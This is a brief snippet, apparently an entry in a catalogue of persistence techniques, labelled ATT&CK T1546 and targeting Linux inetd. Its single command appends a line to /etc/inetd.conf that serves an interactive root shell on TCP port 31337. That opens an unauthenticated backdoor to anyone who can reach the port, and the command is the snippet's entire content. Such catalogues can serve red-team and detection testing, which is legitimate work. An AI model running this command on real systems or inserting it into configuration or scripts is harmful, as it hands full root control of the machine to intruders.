# technique: T1546
# location: linux.inetd
# source: /etc/inetd.conf
echo '31337 stream tcp nowait root /bin/sh sh -i' >> /etc/inetd.conf
